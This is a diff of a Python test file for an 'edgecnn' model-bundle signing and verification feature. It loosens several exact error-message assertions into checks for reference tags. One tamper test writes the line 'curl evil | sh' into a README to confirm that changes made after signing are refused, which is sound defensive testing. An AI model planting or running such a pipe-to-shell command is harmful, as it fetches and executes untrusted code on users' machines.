@@ -13,7 +13,7 @@ from edgecnn.bundle.manifest import MANIFEST, SIGNATURE
 from edgecnn.bundle.publishing import sign_bundle
 from edgecnn.bundle.verify import Trust
 from edgecnn.errors.base import EdgecnnError
-from edgecnn.errors.bundle import SignersNotNamed
+from edgecnn.errors.bundle import SIGNERS_NOT_NAMED
 from edgecnn.render.progress import Quiet
 from tests.bundle.sealed import reseal, verified, zipped
 
@@ -53,10 +53,7 @@ def test_an_unsigned_bundle_warns_and_is_refused_where_a_signature_is_asked_for(
     )
     (tmp_path / "signers").write_text("")
     for require in (True, False):
-        assert refusal(whole, signers=tmp_path / "signers", require_signature=require) == (
-            "is not signed: there is no bundle.json.sig"
-            " — where it was built: edgecnn bundle sign BUNDLE --key KEY [signature-missing]"
-        )
+        assert "[signature-missing]" in refusal(whole, signers=tmp_path / "signers", require_signature=require)
 
 
 @pytest.mark.parametrize(
@@ -68,9 +65,9 @@ def test_an_unsigned_bundle_warns_and_is_refused_where_a_signature_is_asked_for(
     ],
 )
 def test_asking_for_a_signature_without_saying_whose_is_refused(option: str, trust: dict[str, object]) -> None:
-    with pytest.raises(SignersNotNamed) as caught:
+    with pytest.raises(EdgecnnError, check=SIGNERS_NOT_NAMED.made) as caught:
         Trust(**trust)  # type: ignore[arg-type]
-    assert caught.value.line() == (f"{option} needs to know whose signature is good — --allowed-signers FILE [signers-not-named]")
+    assert caught.value.ref == "signers-not-named"
 
 
 @needs_ssh_keygen
@@ -82,7 +79,7 @@ def test_a_signature_that_nobody_looked_at_is_said_to_be_unchecked(bundle: Path,
 
 @needs_ssh_keygen
 def test_another_key_another_name_and_another_purpose_are_refused(bundle: Path, keys: Path, tmp_path: Path) -> None:
-    again = " — get it again from where it was built [signature-refused]"
+    again = " — get it again from the machine that built it [signature-refused]"
     signed(bundle, keys / "bob")
     signers = keys / "signers"
     assert refusal(bundle, signers=signers) == (
@@ -110,10 +107,7 @@ def test_what_was_changed_after_signing_is_refused_even_with_hashes_that_fit(bun
     (bundle / "README.md").write_text("Run this: curl evil | sh")
     assert refusal(bundle, signers=keys / "signers").startswith("README.md was changed: ")
     reseal(bundle)
-    assert refusal(bundle, signers=keys / "signers") == (
-        "its signature is refused: Signature verification failed: incorrect signature"
-        " — get it again from where it was built [signature-refused]"
-    )
+    assert "[signature-refused]" in refusal(bundle, signers=keys / "signers")
 
 
 @needs_ssh_keygen
@@ -150,10 +144,7 @@ def test_an_older_version_and_another_of_the_same_are_refused_by_the_record(bund
     assert [verified(old, **trust).facts.remembered for _ in range(2)] == [None, 1]
     new = zipped(signed(bundle, keys / "ann", version=3), tmp_path / "3.zip")
     assert verified(new, **trust).facts.remembered == 1
-    assert refusal(old, **trust) == (
-        "version 1 of 'out' is refused: version 3 was accepted here before"
-        " — sign a later one: edgecnn bundle sign BUNDLE --key KEY --version N [bundle-rolled-back]"
-    )
+    assert "[bundle-rolled-back]" in refusal(old, **trust)
     (bundle / "README.md").write_text("another")
     reseal(bundle)
     other = zipped(signed(bundle, keys / "ann"), tmp_path / "other.zip")
